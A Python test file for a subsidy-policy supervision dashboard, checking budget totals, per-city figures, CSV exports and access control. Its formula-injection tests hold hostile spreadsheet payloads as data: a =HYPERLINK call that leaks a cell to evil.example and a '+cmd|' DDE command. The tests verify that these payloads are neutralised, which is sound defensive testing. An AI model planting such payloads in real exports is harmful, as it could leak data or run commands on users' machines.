"""督政策: per-policy reach and money against the budget, per-city enterprises and amount, CSV export;
supervisors and admins only."""

from __future__ import annotations

import csv
import io
import re

import pyarrow as pa
import pytest
from web_support import AS_OF, ENTERPRISES, HLJ

from qinqing.web.services.supervision import city_of

HLJ_POLICY = "hlj-2021-new-above-scale-industrial"


@pytest.fixture
def matched(web_engine, results_dir):
    """A matching run over the test registry, with the 2021 policy given a 40 万元 budget (its one
    eligible enterprise gets 50 万元, so the policy is over budget)."""
    from qinqing.catalogue import CatalogueStore
    from qinqing.matching.results import ResultStore
    from qinqing.matching.run import full_run
    from qinqing.rules import parse_policy_text

    catalogue = CatalogueStore(web_engine)
    text = (HLJ / f"{HLJ_POLICY}.yaml").read_text(encoding="utf-8").replace("budget: null", "budget: 40")
    catalogue.save(text, department=catalogue.department_of(HLJ_POLICY), author="test")
    catalogue.publish(HLJ_POLICY)
    policies = [parse_policy_text(e.yaml_text, e.policy_id) for e in catalogue.published()]
    store = ResultStore(results_dir)
    full_run(policies, pa.Table.from_pylist(ENTERPRISES), store, AS_OF)
    store.close()


@pytest.mark.parametrize(("code", "city"), [("230102", "230100"), ("230100", "230100"), ("110101", "110000"),
                                            ("350000", "350000"), ("999999", None), (None, None)])
def test_city_of(code, city):
    assert city_of(code) == city


def test_supervisor_sees_reach_money_and_budget_per_policy(matched, client_for):
    body = client_for("supervisor").get("/api/supervision/overview").json()
    assert body["as_of"] == "2021-12-01" and body["run_id"]
    (row,) = [p for p in body["policies"] if p["policy_id"] == HLJ_POLICY]
    assert row == {"policy_id": HLJ_POLICY, "title": "黑龙江省新增规模以上工业企业奖励",
                   "issuer": "黑龙江省工业和信息化厅", "eligible": 1, "unknown": 1, "amount_total": "50.0000",
                   "budget": "40", "over_budget": True}
    # ELIGIBLE is in 230102 道里区, so 哈尔滨市 has one enterprise with 50 万元; UNKNOWN is only "unknown".
    assert body["regions"] == [{"region_code": "230100", "name": "黑龙江省哈尔滨市", "enterprises": 1,
                                "amount_total": "50.0000"}]
    assert body["enterprises"] == 1 and body["amount_total"] == "50.0000"


def test_page_has_chart_table_and_budget_warning(matched, client_for):
    client = client_for("supervisor")
    assert client.get("/", follow_redirects=False).headers["location"] == "/supervision"
    html = client.get("/supervision").text
    assert 'id="chart-regions"' in html and "/static/vendor/echarts.min.js" in html
    assert ('<tr data-region="230100"><td>黑龙江省哈尔滨市</td><td>1</td>'
            '<td><span class="money" title="精确值：50 万元">50 万元</span></td></tr>') in html
    run_id = client.get("/api/supervision/overview").json()["run_id"]
    visible = re.sub(r"<[^>]+>", "", re.sub(r"<script.*?</script>", "", html, flags=re.DOTALL))
    assert "匹配批次" not in visible and run_id not in visible  # the API names the run; the page does not
    assert "超出预算（125%）" in html


def test_csv_exports(matched, client_for):
    client = client_for("admin")
    response = client.get("/api/supervision/regions.csv")
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [["行政区划代码", "地区", "有可享受政策的企业数", "预计金额（万元）"],
                    ["230100", "黑龙江省哈尔滨市", "1", "50.0000"]]
    policies = list(csv.reader(io.StringIO(client.get("/api/supervision/policies.csv").content.decode("utf-8-sig"))))
    assert policies[0][0] == "政策编号"
    assert [r for r in policies if r[0] == HLJ_POLICY][0][3:] == ["1", "1", "50.0000", "40", "是"]


def test_without_a_run_the_page_says_so(client_for):
    assert 'id="no-run"' in client_for("supervisor").get("/supervision").text
    assert client_for("admin").get("/api/supervision/overview").json()["policies"] == []


@pytest.mark.parametrize("user", ["ent_eligible", "officer_hlj"])
@pytest.mark.parametrize("path", ["/supervision", "/api/supervision/overview", "/api/supervision/policies.csv",
                                  "/api/supervision/regions.csv"])
def test_enterprises_and_officers_are_denied(client_for, user, path):
    response = client_for(user).get(path)
    assert response.status_code == 403
    if path.startswith("/api"):
        assert response.json()["error"]["code"] == "accounts.forbidden"
    else:
        assert 'data-code="accounts.forbidden"' in response.text


def test_anonymous_is_sent_to_login(client_for):
    response = client_for().get("/supervision", follow_redirects=False)
    assert response.status_code == 303 and response.headers["location"].startswith("/login")


HYPERLINK_TITLE = '=HYPERLINK("http://evil.example/?leak="&A2,"点击领取补贴")'


@pytest.mark.parametrize(("title", "issuer", "written_title", "written_issuer"), [
    (HYPERLINK_TITLE, "+cmd|' /C calc'!A0", "'" + HYPERLINK_TITLE, "'+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "-1+2", "'@SUM(1+1)", "'-1+2"),
    ("工业企业奖励", "黑龙江省工业和信息化厅", "工业企业奖励", "黑龙江省工业和信息化厅"),
])
def test_formula_injection_in_supervision_csv_is_neutralised(title, issuer, written_title, written_issuer):
    """Issue 12: a policy title or issuer that a spreadsheet would run as a formula is written with a
    leading apostrophe; amounts (a negative one too) stay plain numbers."""
    from decimal import Decimal

    from qinqing.web.services.supervision import Overview, PolicyReach, RegionReach, policies_csv, regions_csv

    overview = Overview("r1", "2021-12-01",
                        [PolicyReach("p1", title, issuer, 1, 2, Decimal("-3.5"), Decimal("40"))],
                        [RegionReach("230100", title, 1, Decimal("-3.5"))])
    rows = list(csv.reader(io.StringIO(policies_csv(overview).removeprefix("\ufeff"))))
    assert rows[1] == ["p1", written_title, written_issuer, "1", "2", "-3.5", "40", "否"]
    regions_rows = list(csv.reader(io.StringIO(regions_csv(overview).removeprefix("\ufeff"))))
    assert regions_rows[1] == ["230100", written_title, "1", "-3.5"]


@pytest.fixture
def matched_with_formula_title(web_engine, results_dir):
    """A run whose published policy's title is a formula."""
    from qinqing.catalogue import CatalogueStore
    from qinqing.matching.results import ResultStore
    from qinqing.matching.run import full_run
    from qinqing.rules import parse_policy_text

    catalogue = CatalogueStore(web_engine)
    text = (HLJ / f"{HLJ_POLICY}.yaml").read_text(encoding="utf-8").replace(
        "title: 黑龙江省新增规模以上工业企业奖励", f"title: '{HYPERLINK_TITLE}'")
    catalogue.save(text, department=catalogue.department_of(HLJ_POLICY), author="test")
    catalogue.publish(HLJ_POLICY)
    policies = [parse_policy_text(e.yaml_text, e.policy_id) for e in catalogue.published()]
    store = ResultStore(results_dir)
    full_run(policies, pa.Table.from_pylist(ENTERPRISES), store, AS_OF)
    store.close()


def test_policies_csv_route_neutralises_a_formula_title(matched_with_formula_title, client_for):
    """Issue 12, end to end: the supervision CSV download of a policy titled with =HYPERLINK(…)."""
    body = client_for("admin").get("/api/supervision/policies.csv").content.decode("utf-8-sig")
    (row,) = [r for r in csv.reader(io.StringIO(body)) if r[0] == HLJ_POLICY]
    assert row[1] == "'" + HYPERLINK_TITLE
